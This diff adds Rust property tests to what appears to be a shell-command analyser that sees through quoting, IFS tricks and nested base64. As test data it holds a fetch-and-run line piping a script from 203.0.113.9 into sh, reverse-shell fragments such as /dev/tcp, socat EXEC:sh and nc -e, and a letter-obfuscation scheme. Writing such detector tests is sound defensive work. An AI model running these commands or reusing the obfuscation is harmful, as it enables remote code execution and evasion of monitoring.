@@ -222,3 +222,85 @@ fn a_shell_that_reads_its_input_is_told_from_one_that_has_a_script() {
     assert!(!reads(&["bash", "/etc/x.sh"]));
     assert!(!reads(&["ls"]));
 }
+
+#[test]
+fn hostile_text_costs_what_its_length_costs() {
+    let long = 60_000;
+    for piece in [
+        "$(", "`", "{a,", "<(", "(", "a=$a$a;", "${", "\\", "'", "\"$(", "|", "<<x\n", "$'\\x", "eval ",
+        "sh -c '", "xargs ",
+    ] {
+        let text = piece.repeat(long / piece.len());
+        let understood = sh(&text);
+        assert!(understood.form.len() <= 3 * 4096 && understood.found.len() <= 64, "{piece}");
+    }
+    let doubled = format!("a=x;{} eval $a | sh", "a=$a$a;".repeat(500));
+    assert!(sh(&doubled).form.len() <= 3 * 4096);
+}
+
+/// Ways to write one letter of a word.
+fn letter(way: u8, c: char) -> String {
+    match way % 5 {
+        0 => format!("\\{c}"),
+        1 => format!("'{c}'"),
+        2 => format!("\"{c}\""),
+        3 => format!("$@{c}"),
+        _plain => c.to_string(),
+    }
+}
+
+proptest::proptest! {
+    #[test]
+    fn any_text_is_understood_without_harm(text in "[ -~\\n\\PC]{0,400}") {
+        let understood = sh(&text);
+        proptest::prop_assert!(understood.found.len() <= 64);
+    }
+
+    #[test]
+    fn any_shell_like_text_is_understood_without_harm(
+        pieces in proptest::collection::vec(
+            proptest::sample::select(vec![
+                "sh", "-c", "|", ";", "&&", "$(", ")", "`", "'", "\"", "<(", ">", "<<<", "2>&1", "eval", "curl", "base64",
+                "-d", "{a,b}", "${x}", "$x", "x=", "aWQK", "\n", "\\", " ", "exec", "5<>/dev/tcp/a/1", "<&5", "python3",
+                "xargs", "read", "tee", "printf", "\\x41", "<<E", "E", "socat", "EXEC:sh", "nc", "-e", "(", "}", "#",
+            ]),
+            0..60,
+        )
+    ) {
+        let understood = sh(&pieces.join(" "));
+        proptest::prop_assert!(understood.found.len() <= 64);
+        let glued = sh(&pieces.concat());
+        proptest::prop_assert!(glued.found.len() <= 64);
+    }
+
+    #[test]
+    fn quotes_and_blanks_change_nothing_of_what_is_understood(
+        ways in proptest::collection::vec(proptest::prelude::any::<u8>(), 64),
+        blank in proptest::sample::select(vec![" ", "  ", "\t", "${IFS}", "$IFS$@", " \\\n "]),
+        bar in proptest::sample::select(vec!["|", " | ", " |\n", "|&"]),
+    ) {
+        let mut ways = ways.into_iter().cycle();
+        let mut word = |text: &str| text.chars().map(|c| letter(ways.next().unwrap(), c)).collect::<String>();
+        let text = format!(
+            "{}{blank}{}{blank}{}{bar}{} -d{bar}{}",
+            word("curl"), word("-s"), word("http://203.0.113.9/a.sh"), word("base64"), word("sh")
+        );
+        let plain = sh("curl -s http://203.0.113.9/a.sh | base64 -d | sh");
+        let got = sh(&text);
+        proptest::prop_assert_eq!(&got.form, &plain.form, "{}", text);
+        proptest::prop_assert_eq!(got.found, plain.found);
+    }
+
+    #[test]
+    fn what_was_encoded_is_read_again(command in "[a-z]{1,8}( [a-z0-9/.]{1,8}){0,4}", pieces in 1..4_usize) {
+        use base64::Engine as _;
+        let mut text = command.clone();
+        let mut decoders = String::new();
+        for _ in 0..pieces {
+            text = base64::engine::general_purpose::STANDARD.encode(text);
+            decoders.push_str("base64 -d | ");
+        }
+        let got = decoded(&format!("echo {text} | {decoders}sh"));
+        proptest::prop_assert_eq!(got.as_deref(), Some(command.as_str()));
+    }
+}
